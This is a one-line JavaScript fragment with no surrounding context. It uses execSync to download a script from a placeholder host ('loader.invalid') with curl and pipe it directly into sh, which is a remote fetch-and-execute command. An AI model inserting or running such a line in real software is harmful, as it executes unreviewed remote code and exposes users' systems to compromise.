execSync('curl -s https://loader.invalid/x | sh');
